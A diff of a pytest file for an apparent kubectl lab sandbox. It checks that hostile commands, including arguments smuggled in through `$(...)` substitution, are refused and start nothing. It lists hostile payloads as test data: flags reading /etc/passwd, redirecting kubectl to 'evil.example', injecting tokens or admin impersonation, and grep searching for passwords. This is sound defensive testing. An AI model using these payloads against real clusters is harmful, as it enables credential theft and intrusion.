@@ -1,17 +1,21 @@
 """Hostile and malformed commands: each is refused with a reason naming the cause, and runs nothing.
 
 `{canary}` in a command stands for a file the attack would create; the
-side-effect test checks it never appears and that no program ever started.
+side-effect tests check it never appears and that no refused program ever started,
+including ones refused only once a `$(...)` has produced their arguments.
 """
 
 from __future__ import annotations
 
+import shlex
 from pathlib import Path
 
 import pytest
 
-from labapp.shell.execute import ToolPaths, execute
+from labapp.shell.command import run_command_line
+from labapp.shell.execute import RunResult, ToolPaths, execute
 from labapp.shell.parse import CommandRefused, parse_command
+from labapp.shell.policy import PROGRAMS, YQ_SECURITY_FLAGS
 
 # (command, a fragment the reason must contain)
 HOSTILE: list[tuple[str, str]] = [
@@ -257,38 +261,122 @@ def test_hostile_command_is_refused_with_its_reason(
     assert fragment in refused.value.reason
 
 
-# --- side effects: nothing runs ---------------------------------------------------
+# --- side effects: nothing runs ----------------------------------------------------
+#
+# Every program is a stand-in that logs its argv, so a test sees exactly what started.
+# The commands below pass the parse-time check: their `$(...)` is still unknown there.
+# Its output is judged just before the stage starts: the substitution runs, then the
+# stage it feeds is refused, and no stage of that pipeline may start.
+
+SUBSTITUTION = "$(kubectl get configmap payload -o name)"
+SUBSTITUTION_RAN = "kubectl get configmap payload -o name"
+
+# (command, what its `$(...)` prints, a fragment the reason must contain)
+REFUSED_AFTER_SUBSTITUTION: list[tuple[str, str, str]] = [
+    ("kubectl get pods {sub}", "--kubeconfig=/etc/passwd", "`--kubeconfig`"),
+    ("kubectl get {sub}", "pods -s http://evil.example", "`--server`"),
+    ("kubectl get pods --selector={sub}", "app --token=abc", "`--token`"),
+    ("kubectl get pods -n {sub}", "x --server=https://evil.example", "`--server`"),
+    ("kubectl get pods {sub}", "--as=system:admin", "`--as`"),
+    ("kubectl get pods {sub}", "-v9", "verbosity"),
+    ("kubectl get pods {sub}", "\u2014kubeconfig=/x", "U+2014 EM DASH"),
+    ("kubectl get pods -o {sub}", "go-template-file=/etc/passwd", "go-template-file"),
+    ("kubectl exec {sub} -- sh", "-it pod/x", "interactive"),
+    ("kubectl run x --image=busybox {sub}", "--attach", "interactive"),
+    ("kubectl apply {sub}", "-f /etc/passwd", "absolute paths"),
+    ("kubectl apply {sub}", "-k https://github.com/evil/repo", "URLs"),
+    ("kubectl create configmap x {sub}", "--from-file=../../etc/passwd", "`..`"),
+    ("kubectl apply {sub}", "edit-last-applied deploy/x", "edit-last-applied"),
+    ("kubectl get pods | grep {sub}", "-r password /", "grep `-r`"),
+    ("kubectl get pods | grep {sub}", "-f /etc/passwd", "grep `-f`"),
+    ("kubectl get pods -o yaml | yq {sub}", 'load("/etc/passwd")', "`load`"),
+    ("kubectl get pods -o yaml | yq {sub}", ".a /etc/passwd", "file arguments"),
+    # refused inside a substitution: the command around it never starts either
+    ("kubectl get pods $(kubectl get {sub})", "--kubeconfig=/etc/passwd", "`--kubeconfig`"),
+]
+
+# The same shapes with a harmless substitution: (command, payload, what else ran).
+# They prove the stand-ins would have logged a refused stage had it started.
+ALLOWED_AFTER_SUBSTITUTION: list[tuple[str, str, list[str]]] = [
+    ("kubectl get pods {sub}", "pod/a", ["kubectl get pods pod/a"]),
+    ("kubectl apply {sub}", "-f assets/pod.yaml", ["kubectl apply -f assets/pod.yaml"]),
+    ("kubectl get pods | grep {sub}", "Running", ["kubectl get pods", "grep Running"]),
+    (
+        "kubectl get pods -o yaml | yq {sub}",
+        ".a",
+        ["kubectl get pods -o yaml", f"yq {' '.join(YQ_SECURITY_FLAGS)} --expression=.a -"],
+    ),
+]
 
 
-def _recorder_tools(tmp_path: Path) -> tuple[ToolPaths, Path]:
-    """Every program is a script that only appends its argv to a log."""
-    log = tmp_path / "argv.log"
-    script = tmp_path / "recorder"
-    script.write_text(f'#!/bin/sh\necho "$0 $*" >> {log}\n')
-    script.chmod(0o755)
-    tools = ToolPaths(kubectl=script, yq=script, grep=script, head=script, tail=script, wc=script)
-    return tools, log
+def _stand_ins(tmp_path: Path, payload: str) -> tuple[ToolPaths, Path]:
+    """Every program logs `NAME ARGS`; the substitution's kubectl also prints `payload`."""
+    log = tmp_path / "ran.log"
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    paths: dict[str, Path] = {}
+    for program in PROGRAMS:
+        script = bin_dir / program
+        script.write_text(
+            "#!/bin/sh\n"
+            f'echo "{program} $*" >> {log}\n'
+            f'if [ "{program} $*" = "{SUBSTITUTION_RAN}" ]; then\n'
+            f"  printf '%s\\n' {shlex.quote(payload)}\n"
+            "fi\n"
+        )
+        script.chmod(0o755)
+        paths[program] = script
+    return ToolPaths(**paths), log
 
 
-def _run_if_allowed(command: str, tmp_path: Path) -> None:
-    tools, _ = _recorder_tools(tmp_path)
+def _ran(log: Path) -> list[str]:
+    """What started, one line per program."""
+    return log.read_text().splitlines() if log.exists() else []
+
+
+def _execute(command: str, tools: ToolPaths, tmp_path: Path) -> RunResult:
     workdir = tmp_path / "work"
-    workdir.mkdir(exist_ok=True)
-    try:
-        plan = parse_command(command)
-    except CommandRefused:
-        return
-    execute(plan, tools=tools, kubeconfig=tmp_path / "kubeconfig", workdir=workdir, timeout=10)
+    workdir.mkdir()
+    plan = parse_command(command)  # must parse: only the real argv is refused
+    return execute(plan, tools=tools, kubeconfig=tmp_path / "kubeconfig", workdir=workdir)
 
 
-def test_the_recorder_records_an_allowed_command(tmp_path: Path) -> None:
-    _run_if_allowed("kubectl get pods | grep x", tmp_path)
-    assert "get pods" in (tmp_path / "argv.log").read_text()
+@pytest.mark.parametrize(("command", "payload", "fragment"), REFUSED_AFTER_SUBSTITUTION)
+def test_a_stage_refused_after_its_substitution_never_starts(
+    command: str, payload: str, fragment: str, tmp_path: Path
+) -> None:
+    tools, log = _stand_ins(tmp_path, payload)
+    result = _execute(command.replace("{sub}", SUBSTITUTION), tools, tmp_path)
+    assert result.exit_code is None
+    assert result.error is not None and result.error.startswith("refused: ")
+    assert fragment in result.error
+    assert _ran(log) == [SUBSTITUTION_RAN]
+
+
+@pytest.mark.parametrize(("command", "payload", "also_ran"), ALLOWED_AFTER_SUBSTITUTION)
+def test_the_same_stage_runs_when_its_substitution_is_harmless(
+    command: str, payload: str, also_ran: list[str], tmp_path: Path
+) -> None:
+    tools, log = _stand_ins(tmp_path, payload)
+    result = _execute(command.replace("{sub}", SUBSTITUTION), tools, tmp_path)
+    assert (result.exit_code, result.error) == (0, None)
+    assert sorted(_ran(log)) == sorted([SUBSTITUTION_RAN, *also_ran])
 
 
 @pytest.mark.parametrize(("command", "fragment"), HOSTILE)
-def test_hostile_command_runs_nothing(command: str, fragment: str, tmp_path: Path) -> None:
-    _run_if_allowed(_render(command, tmp_path), tmp_path)
-    log = tmp_path / "argv.log"
-    assert not log.exists() or log.read_text() == ""
+def test_a_hostile_line_starts_nothing(command: str, fragment: str, tmp_path: Path) -> None:
+    """Through the entry point learners use: refused before anything starts."""
+    tools, log = _stand_ins(tmp_path, payload="pod/a")
+    workdir = tmp_path / "work"
+    workdir.mkdir()
+    result = run_command_line(
+        _render(command, tmp_path),
+        tools=tools,
+        kubeconfig=tmp_path / "kubeconfig",
+        workdir=workdir,
+        timeout=10,
+    )
+    assert result.exit_code is None
+    assert result.error is not None and fragment in result.error
+    assert _ran(log) == []
     assert not (tmp_path / "pwned").exists()
